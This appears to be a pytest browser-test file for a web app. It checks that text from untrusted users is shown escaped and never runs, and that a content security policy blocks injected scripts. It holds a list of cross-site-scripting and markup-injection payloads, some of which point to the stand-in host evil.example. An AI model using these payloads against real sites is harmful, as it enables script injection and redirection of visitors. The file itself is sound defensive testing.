"""What strangers write is shown, and never runs; pages ask nobody but the server."""

from urllib.parse import quote

import pytest

from plnapi.accounts import service as accounts
from tests import make
from tests.browser.visitor import Visit
from tests.conftest import Unit

# Each would set `pwned` or open a dialog if it ran.
SMUGGLED = (
    "<script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style></noscript></xmp><script>pwned=1</script>",
    "--><script>pwned=1</script><!--",
    "<img src=x onerror=pwned=1>",
    '"><img src=x onerror=pwned=1>',
    "'><svg onload=pwned=1>",
    '" autofocus onfocus=pwned=1 x="',
    "' autofocus onfocus=pwned=1 x='",
    "<details open ontoggle=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)//",
    "{{ 7 * 7 }}{% raw %}${pwned=1}",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=a><button>Go</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "\u202e<script\u200b>pwned=1</script>",
)
ELEMENTS = "() => document.querySelectorAll('*').length"


def test_smuggled_markup_is_shown_as_it_was_written_and_never_runs(visit: Visit) -> None:
    visitor = visit()
    plain = visitor.go("/gallery?wrong=1&text=x").page.evaluate(ELEMENTS)
    for text in SMUGGLED:
        visitor.go(f"/gallery?wrong=1&text={quote(text)}")
        assert visitor.page.evaluate(ELEMENTS) == plain, f"an element was made by {text!r}"
        assert visitor.page.locator("h1").text_content() == text
        assert visitor.page.get_by_label("Why").first.input_value() == text
        assert not visitor.pwned() and visitor.refused() == []
    assert visitor.foreign() == set()
    assert visitor.complaints == []


def test_a_name_that_is_a_script_does_not_run_on_the_pages_that_show_it(visit: Visit, unit: Unit) -> None:
    smuggled = "<img src=x onerror=pwned=1><script>pwned=1</script>"
    with unit():
        person = make.person(smuggled)
        course = make.course(person, title=smuggled, code="<svg onload=pwned=1>")
        accounts.make_token(person, smuggled, ("me",), 1)
    visitor = visit(person)
    for path in ("/", "/me", f"/courses/{course.id}", f"/courses/{course.id}/manage", f"/courses/{course.id}/people"):
        visitor.go(path)
        assert smuggled in str(visitor.page.locator("body").text_content())
        assert visitor.page.locator("main :is(img, script, svg)").count() == 0
        assert not visitor.pwned() and visitor.refused() == []


def test_the_policy_stops_a_script_that_got_into_a_page(visit: Visit) -> None:
    """The net below the escaping; and the proof that these tests would notice."""
    visitor = visit().go("/gallery")
    visitor.page.evaluate("() => { document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=pwned=1>') }")
    visitor.page.wait_for_function("() => window.refused.length > 0", timeout=3000)
    assert not visitor.pwned()
    assert "script-src-attr" in visitor.refused()[0]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_reference_shows_the_operations_and_asks_nobody_else(scheme: str, visit: Visit) -> None:
    visitor = visit(color_scheme=scheme).go("/docs")
    visitor.page.wait_for_selector(".opblock-summary", timeout=10_000)
    visitor.page.locator(".opblock-summary-control").first.click()
    visitor.page.wait_for_selector(".opblock-body")
    assert visitor.refused() == []
    assert visitor.foreign() == set()
    assert visitor.complaints == []
